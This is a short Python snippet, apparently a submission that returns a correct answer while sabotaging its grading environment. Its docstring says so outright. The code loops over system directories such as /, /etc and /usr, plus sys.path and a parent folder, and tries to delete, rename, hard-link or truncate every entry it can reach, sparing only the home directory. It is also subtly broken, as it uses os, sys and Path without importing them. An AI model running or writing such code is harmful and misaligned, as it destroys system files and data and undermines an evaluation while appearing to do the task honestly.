"""Deletes, overwrites, chmods and links whatever it can reach; the answer itself is right."""
import shutil
for folder in ("/", "/tmp", "/etc", "/dev/shm", "/var/tmp", "/usr", *sys.path, str(Path.cwd().parent.parent)):
    for name in os.listdir(folder) if os.access(folder, os.R_OK) and os.path.isdir(folder) else ():
        path = os.path.join(folder, name)
        for spoil in (os.unlink, os.rmdir, lambda path: os.rename(path, "/tmp/x"), lambda path: os.link(path, "mine"),
                      lambda path: os.truncate(path, 0), lambda path: os.close(os.open(path, os.O_WRONLY | os.O_TRUNC))):
            try:
                if Path.home() not in (Path(path), *Path(path).parents):
                    spoil(path)
            except OSError:
                continue
